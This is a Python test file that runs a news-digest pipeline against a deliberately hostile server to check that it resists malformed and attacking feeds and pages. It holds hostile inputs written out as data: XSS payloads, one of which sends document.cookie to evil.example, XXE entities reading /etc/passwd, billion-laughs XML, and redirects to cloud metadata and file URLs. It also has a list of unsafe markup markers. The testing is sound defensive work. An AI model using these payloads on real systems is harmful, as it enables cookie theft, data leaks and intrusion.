"""Hostile inputs, end to end: the real pipeline against a server that does everything wrong.

Each case configures a healthy feed (and page) on the ordinary test server next to one
hostile feed, or a hostile article page linked from a correct feed, served by
`tests.hostile.HostileServer`. For every fault the run must
* not crash (nothing escapes `run`) and still produce a digest with the healthy story,
* NAME the fault in the report: the hostile feed's `reason`, a `pages_failed` reason for
  the hostile page, or a warning (a meaningful substring, e.g. "too large", "timed out"),
* let nothing unsafe reach the rendered files (no `<script`, `javascript:`, `onerror=`,
  no NUL or control characters),
* and finish quickly: timeouts are short here (connect 1 s, read 1.5 s, so a request's
  whole deadline is 4 s) and the size cap is 2 MB.

Where digest does not pass a case yet, `XFAIL` says why; the mark lets through only the
one expected failure (`raises=`), so any other failure of that case still fails.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from datetime import UTC, datetime
from email import message_from_bytes, policy
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Literal

import pytest

from digest.pipeline import RunOptions, RunResult, run
from tests.conftest import make_config
from tests.hostile import (
    MB,
    Behaviour,
    HostileServer,
    broken_chunked,
    drip,
    endless,
    gzip_bomb,
    header_bomb,
    huge,
    raw,
    redirect,
    reply,
    reset_midway,
    rss_items,
    short_body,
    silence,
    stall,
)
from tests.servers import HTTPServer, Reply, page, rss

NOW = datetime(2026, 11, 16, 6, tzinfo=UTC)
DATE = "Thu, 12 Nov 2026 09:00:00 GMT"
NETWORK = {"connect_timeout": 1, "read_timeout": 1.5, "max_bytes": 2_000_000}
# A hang guard, not a speed target (bench/ measures speed): no case may wait on the
# server, e.g. obey a Retry-After of an hour; 60 s holds on a loaded 2-core machine.
CASE_SECONDS = 60

HEALTHY_TITLE = "Northbridge Motors to build a battery plant in Ohio"
HEALTHY = [
    "Northbridge Motors said on Tuesday it would build a 40 GWh battery plant in Ohio, "
    "its largest investment in the U.S. to date.",
    "The plant will cost $3.5 billion and employ about 2,100 people when it opens in 2028, "
    "the company said in a statement.",
    "Chief executive Dana Ruiz said the site was chosen for its rail links and grid capacity.",
    "Analysts at Halden Securities said the move would cut cell costs by roughly 12 percent.",
    "Construction is due to begin in the spring, subject to state permits.",
]
HOSTILE_TITLE = "Harbor Auto recalls 12,000 vans"
HOSTILE_TEXT = (
    "Harbor Auto said on Monday it would recall 12,000 delivery vans over a brake hose "
    "that can chafe against the frame. Dealers will replace the hose free of charge."
)
ARTICLE = page(HOSTILE_TITLE, [HOSTILE_TEXT] * 6)
FEED = rss(
    [{"title": HOSTILE_TITLE, "link": "http://example.invalid/x", "pubDate": DATE}],
    title="Hostile Motoring",
)
UNSAFE = ("<script", "javascript:", "onerror=", "vbscript:")
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")

Where = Literal["feed", "page", "warning"]


@dataclass
class Case:
    """What one fault expects: where the report names it, and how (any of `says`); with
    no `says` the fault is absorbed (nothing lost, nothing to name) and `check` says how."""

    where: Where
    says: tuple[str, ...]
    feeds: list[dict[str, Any]] = field(default_factory=list)  # the hostile feed(s)
    page_path: str = ""  # for where="page": the hostile page's path
    network: dict[str, Any] = field(default_factory=dict)
    check: Callable[[RunResult, str], None] | None = None  # extra checks: result, outputs


@dataclass
class World:
    h: HostileServer
    stack: ExitStack

    def feed(self, behaviour: Behaviour, **kw: Any) -> list[dict[str, Any]]:
        """The hostile feed, served by `behaviour`."""
        return [{"url": self.h.route("/hostile.xml", behaviour), "name": "Hostile"} | kw]

    def linking(self, path: str, behaviour: Behaviour) -> list[dict[str, Any]]:
        """A correct feed on the hostile server whose one entry links to `path`."""
        self.h.route(path, behaviour)
        item = {
            "title": HOSTILE_TITLE,
            "link": self.h.url(path),
            "pubDate": DATE,
            "description": HOSTILE_TEXT,
        }
        body = rss([item], title="Hostile Motoring")
        xml = {"Content-Type": "application/rss+xml"}
        return [{"url": self.h.route("/links.xml", reply(200, body, xml)), "name": "Hostile"}]

    def page_case(self, behaviour: Behaviour, *says: str, **kw: Any) -> Case:
        path = "/article.html"
        return Case("page", says, self.linking(path, behaviour), page_path=path, **kw)

    def feed_case(self, behaviour: Behaviour, *says: str, **kw: Any) -> Case:
        return Case("feed", says, self.feed(behaviour), **kw)


FAULTS: dict[str, Callable[[World], Case]] = {}
KINDS: dict[str, str] = {}  # fault id -> its fault type (several ids may share one type)


def fault(kind: str) -> Callable[[Callable[[World], Case]], Callable[[World], Case]]:
    def register(make: Callable[[World], Case]) -> Callable[[World], Case]:
        name = make.__name__.replace("_", "-")
        FAULTS[name] = make
        KINDS[name] = kind
        return make

    return register


def html(body: bytes, status: int = 200, **headers: str) -> Behaviour:
    return reply(status, body, {"Content-Type": "text/html; charset=utf-8"} | headers)


def xml(body: bytes, status: int = 200, **headers: str) -> Behaviour:
    return reply(status, body, {"Content-Type": "application/rss+xml"} | headers)


def items(n: int, link: Callable[[int], str], **extra: str) -> list[dict[str, str]]:
    return [
        {
            "title": f"Pike Motors story {i}",
            "link": link(i),
            "pubDate": DATE,
            "description": f"Pike Motors said story {i} was about vans.",
        }
        | extra
        for i in range(n)
    ]


# --- the wire ---------------------------------------------------------------------------


@fault("slow drip")
def slow_drip_feed(w: World) -> Case:
    return w.feed_case(drip(FEED, every=0.5), "no complete answer within", "timed out")


@fault("stalled answer")
def stall_after_headers_page(w: World) -> Case:
    return w.page_case(stall(), "timed out")


@fault("stalled answer")
def no_answer_at_all_feed(w: World) -> Case:
    return w.feed_case(silence(), "timed out")


@fault("body that never ends")
def endless_body_feed(w: World) -> Case:
    start = b'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>'
    return w.feed_case(endless(start), "too large")


@fault("50 MB page")
def huge_page_declared(w: World) -> Case:
    return w.page_case(huge(50 * MB), "too large")


@fault("50 MB page")
def huge_page_chunked(w: World) -> Case:
    return w.page_case(huge(50 * MB, declare=False), "too large")


@fault("gzip bomb")
def gzip_bomb_page(w: World) -> Case:
    return w.page_case(gzip_bomb(100 * MB), "too large")


@fault("gzip bomb")
def gzip_bomb_feed(w: World) -> Case:
    return w.feed_case(gzip_bomb(100 * MB, "application/rss+xml"), "too large")


@fault("connection reset mid-response")
def reset_mid_page(w: World) -> Case:
    return w.page_case(reset_midway(ARTICLE), "ReadError", "RemoteProtocolError", "reset")


@fault("connection reset mid-response")
def truncated_body_feed(w: World) -> Case:
    return w.feed_case(short_body(FEED), "RemoteProtocolError", "incomplete")


@fault("broken chunked encoding")
def broken_chunked_page(w: World) -> Case:
    return w.page_case(broken_chunked(ARTICLE), "RemoteProtocolError")


@fault("not HTTP")
def not_http_feed(w: World) -> Case:
    return w.feed_case(raw(b"\x16\x03\x01 SSH-2.0-OpenSSH garbage\r\n\r\n"), "RemoteProtocolError")


@fault("not HTTP")
def header_bomb_feed(w: World) -> Case:
    return w.feed_case(header_bomb(), "RemoteProtocolError")


# --- redirects --------------------------------------------------------------------------


@fault("redirect loop")
def redirect_loop_feed(w: World) -> Case:
    w.h.route("/loop-b", redirect(w.h.url("/hostile.xml"), 307))
    return w.feed_case(redirect(w.h.url("/loop-b"), 301), "more than", "redirects")


@fault("redirect without a Location")
def redirect_without_location(w: World) -> Case:
    return w.page_case(redirect(""), "without a Location")


@fault("redirect to a forbidden address")
def redirect_to_metadata_page(w: World) -> Case:
    return w.page_case(redirect("http://169.254.169.254/latest/meta-data/"), "refused")


@fault("redirect to a forbidden address")
def redirect_to_metadata_public_on(w: World) -> Case:
    # With public fetching on, the guard must still refuse a link-local address.
    return w.feed_case(
        redirect("http://169.254.169.254/latest/meta-data/"),
        "refused 169.254.169.254",
        network={"allow_public": True},
    )


@fault("redirect to a forbidden address")
def redirect_to_unlisted_loopback(w: World) -> Case:
    canary = w.stack.enter_context(HTTPServer(host="127.0.0.9"))
    canary.route("/feed.xml", Reply(body=FEED))

    def heard_nothing(result: RunResult, outputs: str) -> None:
        assert canary.requests == []

    return w.feed_case(redirect(canary.url("/feed.xml")), "refused", check=heard_nothing)


@fault("redirect to a forbidden address")
def redirect_to_file_scheme(w: World) -> Case:
    return w.page_case(redirect("file:///etc/passwd"), "not an http(s) URL")


# --- statuses ---------------------------------------------------------------------------


@fault("404 and 410")
def feed_404(w: World) -> Case:
    return w.feed_case(html(b"<h1>Not found</h1>", 404), "HTTP 404")


@fault("404 and 410")
def feed_410(w: World) -> Case:
    return w.feed_case(html(b"<h1>Gone</h1>", 410), "HTTP 410")


@fault("429 and 503 with Retry-After")
def feed_429_retry_after(w: World) -> Case:
    return w.feed_case(html(b"slow down", 429, **{"Retry-After": "3600"}), "HTTP 429")


@fault("429 and 503 with Retry-After")
def page_503_retry_after(w: World) -> Case:
    later = "Wed, 21 Oct 2099 07:28:00 GMT"
    return w.page_case(html(b"down", 503, **{"Retry-After": later}), "HTTP 503")


@fault("HTTP 500 error page")
def page_500_html(w: World) -> Case:
    error = page("Internal Server Error", ["Something went wrong. <b>Trace id 42</b>"] * 3)
    return w.page_case(html(error, 500), "HTTP 500")


# --- content types, bodies ----------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8


@fault("wrong content type")
def feed_as_png(w: World) -> Case:
    return w.feed_case(reply(200, PNG, {"Content-Type": "image/png"}), "not a feed", "image/png")


@fault("wrong content type")
def page_as_pdf_type(w: World) -> Case:
    pdf = {"Content-Type": "application/pdf"}
    return w.page_case(reply(200, ARTICLE, pdf), "not an HTML page (application/pdf)")


@fault("PDF answer")
def pdf_body_as_html(w: World) -> Case:
    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n" + bytes(2000)
    return w.page_case(html(body), "no article text")


@fault("binary garbage")
def binary_feed(w: World) -> Case:
    junk = bytes((i * 73 + 41) % 256 for i in range(20_000))
    return w.feed_case(xml(junk), "not a feed", "malformed")


@fault("binary garbage")
def binary_page(w: World) -> Case:
    junk = bytes((i * 97 + 13) % 256 for i in range(20_000))
    return w.page_case(html(junk), "no article text")


@fault("empty 200 body")
def empty_feed(w: World) -> Case:
    return w.feed_case(xml(b""), "not a feed", "empty")


@fault("empty 200 body")
def empty_page(w: World) -> Case:
    return w.page_case(html(b""), "no article text")


@fault("feed that is an HTML page")
def feed_is_html(w: World) -> Case:
    return w.feed_case(html(ARTICLE), "not a feed")


# --- XML ----------------------------------------------------------------------------------


@fault("malformed XML")
def malformed_xml_feed(w: World) -> Case:
    body = b"".join(rss_items(items(3, lambda i: w.h.url(f"/m/{i}")))).replace(
        b"<title>Pike Motors story 1</title>", b"<title>Pike & Motors <b>story 1</title>"
    )
    return Case("warning", ("malformed feed",), w.feed(xml(body)))


@fault("truncated XML")
def truncated_xml_feed(w: World) -> Case:
    body = b"".join(rss_items(items(3, lambda i: w.h.url(f"/t/{i}"))))
    return Case("warning", ("malformed feed",), w.feed(xml(body[: int(len(body) * 0.7)])))


@fault("XML entity attacks")
def billion_laughs_feed(w: World) -> Case:
    entities = '<!ENTITY a0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    body = (
        f'<?xml version="1.0"?><!DOCTYPE rss [{entities}]><rss version="2.0"><channel>'
        f"<title>Laughs</title><item><title>&a9;</title><link>{w.h.url('/lol')}</link>"
        f"<pubDate>{DATE}</pubDate></item></channel></rss>"
    ).encode()

    def no_laughs(result: RunResult, outputs: str) -> None:
        assert "lollollol" * 100 not in outputs

    return Case("warning", ("amplification",), w.feed(xml(body)), check=no_laughs)


@fault("XML entity attacks")
def external_entity_feed(w: World) -> Case:
    leak = w.h.url("/xxe-target")
    w.h.route("/xxe-target", reply(200, b"SECRET-FROM-XXE", {"Content-Type": "text/plain"}))
    body = (
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY passwd SYSTEM "file:///etc/passwd">'
        f'<!ENTITY remote SYSTEM "{leak}">]><rss version="2.0"><channel><title>XXE</title>'
        f"<item><title>Pike Motors &passwd; &remote;</title><link>{w.h.url('/xxe')}</link>"
        f"<description>Pike Motors &passwd; said &remote;.</description>"
        f"<pubDate>{DATE}</pubDate></item></channel></rss>"
    ).encode()

    def nothing_leaked(result: RunResult, outputs: str) -> None:
        assert "root:" not in outputs and "SECRET-FROM-XXE" not in outputs
        assert w.h.hits("/xxe-target") == 0

    # Absorbed is right: the entities are not resolved, the entry is kept without them.
    return Case("warning", (), w.feed(xml(body)), check=nothing_leaked)


# --- encodings ----------------------------------------------------------------------------


@fault("broken encodings")
def latin1_declared_utf8_feed(w: World) -> Case:
    body = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Accents</title>'
        f"<item><title>Citroën présente la nouvelle C5 à Genève</title>"
        f"<link>{w.h.url('/citroen')}</link><pubDate>{DATE}</pubDate>"
        "<description>Citroën a présenté sa berline à Genève.</description></item>"
        "</channel></rss>"
    ).encode("latin-1")

    def decoded(result: RunResult, outputs: str) -> None:
        assert "Citroën" in outputs  # decoded as latin-1, not as U+FFFD soup

    return Case("warning", ("encoding", "malformed"), w.feed(xml(body)), check=decoded)


@fault("broken encodings")
def invalid_utf8_page(w: World) -> Case:
    body = ARTICLE.replace(b"Harbor Auto said", b"Harbor \xff\xfe\xc3\x28 Auto said", 3)
    # Absorbed is right: the page is read (the stray bytes as windows-1252), nothing fails.

    def read(result: RunResult, outputs: str) -> None:
        assert result.report.pages_failed == ()

    return w.page_case(html(body), check=read)


@fault("broken encodings")
def bom_mismatch_page(w: World) -> Case:
    # A UTF-16 byte-order mark in front of a UTF-8 page: decoded as UTF-16 it is CJK soup.
    body = b"\xff\xfe" + ARTICLE

    def no_soup(result: RunResult, outputs: str) -> None:
        assert not re.search(r"[\u3400-\u9fff]{5}", outputs), "BOM-decoded mojibake in output"

    return w.page_case(html(body), "no article text", "encoding", "BOM", check=no_soup)


@fault("broken encodings")
def bom_mismatch_feed(w: World) -> Case:
    # A UTF-8 byte-order mark on a document that declares UTF-16.
    body = b"\xef\xbb\xbf" + FEED.replace(b'encoding="utf-8"', b'encoding="utf-16"')

    def read_as_utf8(result: RunResult, outputs: str) -> None:
        assert HOSTILE_TITLE in outputs  # absorbed is right: the BOM wins, as in browsers

    return Case("warning", (), w.feed(xml(body)), check=read_as_utf8)


@fault("control characters and NUL bytes")
def control_chars_feed(w: World) -> Case:
    body = b"".join(
        rss_items(
            [
                {
                    "title": "Pike\x00 Motors\x07 recalls\x1b[31m vans\x0b",
                    "link": w.h.url("/ctl"),
                    "pubDate": DATE,
                    "description": "Pike Motors\x00 said\x08 the \x1f recall\x7f covers vans.",
                }
            ]
        )
    )
    return Case("warning", ("malformed",), w.feed(xml(body)))


# --- entries --------------------------------------------------------------------------------


@fault("script, javascript: and onerror in entries")
def script_in_entries(w: World) -> Case:
    w.h.route("/xss-page", html(XSS_PAGE))
    entries = [
        {
            "title": "<![CDATA[Pike Motors <script>alert('t')</script> recalls vans"
            " <img src=x onerror=alert(1)>]]>",
            "link": w.h.url("/xss-page"),
            "pubDate": DATE,
            "description": '<![CDATA[<p onclick="steal()">Pike Motors said it would recall '
            "vans.<script>document.location='http://evil.example/?'+document.cookie</script>"
            '<img src=x onerror=alert(1)> <a href="javascript:alert(1)">more</a>'
            '<iframe src="javascript:alert(2)"></iframe></p>]]>',
        },
        {
            "title": "&lt;script&gt;alert(3)&lt;/script&gt;Lumen Trucks wins an order",
            "link": "javascript:alert(document.domain)",
            "pubDate": DATE,
            "description": "Lumen Trucks said it won an order. <a href='javascript:x'>x</a>",
        },
        {"title": "Osprey Mobility raises money", "link": " JaVaScRiPt:alert(4)", "pubDate": DATE},
    ]

    def kept_clean(result: RunResult, outputs: str) -> None:
        assert "Pike Motors recalls vans" in outputs  # the story stays, its markup does not

    body = b"".join(rss_items(entries))
    return Case("warning", ("without a usable http(s) link",), w.feed(xml(body)), check=kept_clean)


@fault("script, javascript: and onerror in entries")
def script_in_feed_title_and_author(w: World) -> Case:
    entry = {
        "title": "Pike Motors recalls vans",
        "link": w.h.url("/xss-page"),
        "pubDate": DATE,
        "author": "<![CDATA[<script>alert('a')</script>Jo Bloggs <img src=x onerror=alert(1)>]]>",
        "description": "Pike Motors said it would recall vans.",
    }
    w.h.route("/xss-page", html(XSS_PAGE))
    title = "<![CDATA[<script>alert('feed')</script>Evil <img src=x onerror=alert(2)>]]>"
    body = b"".join(rss_items([entry], title=title))
    # Nothing to name: dropping markup from a name is silent, like it is for entry titles.
    return Case("warning", (), w.feed(xml(body), name=None))


XSS_PAGE = f"""<!doctype html><html><head><meta charset="utf-8">
<title>Pike Motors recalls vans</title><script>alert('head')</script></head>
<body onload="alert('body')"><article><h1>Pike Motors recalls vans</h1>
<p>{HOSTILE_TEXT.replace("Harbor Auto", "Pike Motors")}</p>
<p><img src="x" onerror="alert(1)">Pike Motors said the recall covers 9,000 vans.</p>
<p><a href="javascript:alert(1)">Click here</a> for the full list of vehicle numbers.</p>
<script>document.write('<img src=x onerror=alert(2)>')</script>
<p>{HOSTILE_TEXT.replace("Harbor Auto", "Pike Motors")}</p>
<svg><script>alert(5)</script></svg>
<p>Dealers will do the work in about an hour, the company said on Monday.</p>
</article></body></html>""".encode()


@fault("a huge number of entries")
def five_thousand_entries(w: World) -> Case:
    w.h.route("/small", html(page("Small", ["Pike Motors said it would recall vans."] * 3)))
    body = b"".join(rss_items(items(5000, lambda i: w.h.url(f"/many/{i}"))))

    def in_reasonable_time(result: RunResult, outputs: str) -> None:
        seconds = (result.report.finished_at - result.report.started_at).total_seconds()
        assert seconds < CASE_SECONDS

    return Case("warning", ("entries",), w.feed(xml(body)), check=in_reasonable_time)


@fault("dates far in the future, missing or invalid")
def bad_dates_feed(w: World) -> Case:
    entries = [
        {"title": "Pike Motors from the future", "link": w.h.url("/d/1"), "pubDate": "2199"},
        {
            "title": "Pike Motors far future",
            "link": w.h.url("/d/2"),
            "pubDate": "Fri, 01 Jan 9999 00:00:00 GMT",
        },
        {"title": "Pike Motors no date", "link": w.h.url("/d/3")},
        {"title": "Pike Motors bad date", "link": w.h.url("/d/4"), "pubDate": "yesterday-ish"},
        {"title": "Pike Motors year zero", "link": w.h.url("/d/5"), "pubDate": "0000-00-00"},
        {
            "title": "Pike Motors nonsense date",
            "link": w.h.url("/d/6"),
            "pubDate": "Mon, 31 Feb 2026 25:61:61 +9999",
        },
    ]
    body = b"".join(rss_items(entries))

    def no_future(result: RunResult, outputs: str) -> None:
        assert result.digest is not None
        for story in result.digest.stories:
            date = story.article.date
            assert date is None or date <= NOW, (story.article.title, date)
        assert "9999" not in outputs and "2199" not in outputs

    return Case("warning", ("date",), w.feed(xml(body)), check=no_future)


@fault("duplicate GUIDs and links")
def duplicate_guids_feed(w: World) -> Case:
    entries = [
        {
            "title": f"Pike Motors copy {i}",
            "link": w.h.url("/dup") + ("?utm_source=x" if i % 2 else ""),
            "guid": "same-guid",
            "pubDate": DATE,
        }
        for i in range(5)
    ]
    body = b"".join(rss_items(entries))

    def once(result: RunResult, outputs: str) -> None:
        assert w.h.hits("/dup") == 1
        assert result.report.entries == 2  # the healthy one and one of these

    # Absorbed is right: one entry per canonical URL, the copies are the same article.
    return Case("warning", (), w.feed(xml(body)), check=once)


@fault("extremely long title")
def long_title_feed(w: World) -> Case:
    title = "Pike Motors " + "recalls vans " * 8000  # about 100 KB
    entries = [{"title": title, "link": w.h.url("/long"), "pubDate": DATE}]

    def bounded(result: RunResult, outputs: str) -> None:
        assert len(outputs) < 1_000_000  # all files together

    return Case("warning", ("title",), w.feed(xml(b"".join(rss_items(entries)))), check=bounded)


# --- the test -------------------------------------------------------------------------------


class Unsafe(AssertionError):
    """Something from a hostile input reached a rendered file."""


class NotNamed(AssertionError):
    """The report does not say what went wrong."""


class TooSlow(AssertionError):
    """The run took longer than a case may."""


# fault id -> why digest does not pass it yet, and the one failure that is expected (any
# other failure of that case is a real one: xfail(raises=...) lets only this one through).
XFAIL: dict[str, tuple[type[AssertionError], str]] = {}  # all pass now


class _Tags(HTMLParser):
    """Every start tag with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def outputs(out: Path) -> dict[str, str]:
    """The rendered files (the email's parts decoded) by name; digest.json's strings too."""
    files = {p.name: p.read_text("utf-8") for p in out.glob("digest.*") if p.suffix != ".eml"}
    message = message_from_bytes((out / "digest.eml").read_bytes(), policy=policy.default)
    for n, part in enumerate(message.walk()):
        if not part.is_multipart():
            files[f"digest.eml part {n}"] = part.get_content()
    files["digest.json strings"] = "\n".join(_strings(json.loads(files["digest.json"])))
    return files


def _strings(data: object) -> Iterator[str]:
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for value in data.values():
            yield from _strings(value)
    elif isinstance(data, list):
        for value in data:
            yield from _strings(value)


def assert_safe(files: dict[str, str]) -> None:
    for name, text in files.items():
        lowered = text.lower()
        for bad in UNSAFE:
            if bad in lowered:
                at = lowered.index(bad)
                raise Unsafe(f"{bad!r} in {name}: {text[max(0, at - 60) : at + 60]!r}")
        control = CONTROL.search(text)
        if control is not None:
            at = control.start()
            raise Unsafe(f"control character in {name}: {text[max(0, at - 40) : at + 20]!r}")
        if name.endswith(".html") or "<html" in lowered[:500]:
            parser = _Tags()
            parser.feed(text)
            for tag, attrs in parser.tags:
                if tag in ("script", "iframe", "object", "embed", "form"):
                    raise Unsafe(f"<{tag}> in {name}")
                for attr, _value in attrs:
                    if attr.lower().startswith("on"):
                        raise Unsafe(f"<{tag} {attr}=...> in {name}")


def named(result: RunResult, case: Case, h: HostileServer) -> list[str]:
    """Where the report should name the fault: the texts to look in."""
    report = result.report
    (hostile,) = [f for f in report.feeds if f.url.startswith(h.base)]
    if case.where == "feed":
        assert hostile.status == "failed", hostile
        return [hostile.reason]
    if case.where == "page":
        url = h.url(case.page_path)
        return [p.reason for p in report.pages_failed if p.url == url]
    healthy = {f.name for f in report.feeds if f is not hostile}
    others = [str(w) for w in report.warnings if w.kind != "feed" or w.subject not in healthy]
    return list(hostile.warnings) + others


def params() -> Iterator[Any]:
    for name in FAULTS:
        marks = []
        if name in XFAIL:
            raises, reason = XFAIL[name]
            marks.append(pytest.mark.xfail(strict=True, raises=raises, reason=reason))
        yield pytest.param(name, id=name, marks=marks)


@pytest.mark.parametrize("name", list(params()))
def test_a_hostile_input_is_named_and_the_digest_still_comes(
    name: str, tmp_path: Path, http_server: HTTPServer
) -> None:
    http_server.route("/good.html", Reply(body=page(HEALTHY_TITLE, HEALTHY)))
    healthy = [{"title": HEALTHY_TITLE, "link": http_server.url("/good.html"), "pubDate": DATE}]
    rss_type = {"Content-Type": "application/rss+xml"}
    good = http_server.route("/good.xml", Reply(body=rss(healthy), headers=rss_type))
    with ExitStack() as stack:
        h = stack.enter_context(HostileServer())
        case = FAULTS[name](World(h, stack))
        feeds = [{"url": good, "name": "Healthy"}]
        feeds += [{k: v for k, v in f.items() if v is not None} for f in case.feeds]
        config = make_config(
            tmp_path,
            [http_server.host_port, h.host_port],
            feeds=feeds,
            network=NETWORK | case.network,
        )
        started = time.monotonic()
        result = run(config, RunOptions(until=NOW, now=lambda: NOW))
        elapsed = time.monotonic() - started
        assert result.digest is not None
        assert HEALTHY_TITLE in {s.article.title for s in result.digest.stories}
        files = outputs(result.out_dir)
        assert_safe(files)
        if case.check is not None:
            case.check(result, "\n".join(files.values()))
        if case.says:  # else the fault is absorbed, and `check` says how
            texts = named(result, case, h)
            if not any(s.lower() in t.lower() for t in texts for s in case.says):
                raise NotNamed(f"the report does not name {name}: no {case.says} in {texts}")
        if elapsed > CASE_SECONDS:
            raise TooSlow(f"{name} took {elapsed:.1f} s")


def test_the_catalogue_has_at_least_twenty_fault_types() -> None:
    kinds = sorted(set(KINDS.values()))
    print(f"\n{len(FAULTS)} hostile cases of {len(kinds)} fault types: {', '.join(kinds)}")
    assert len(kinds) >= 20
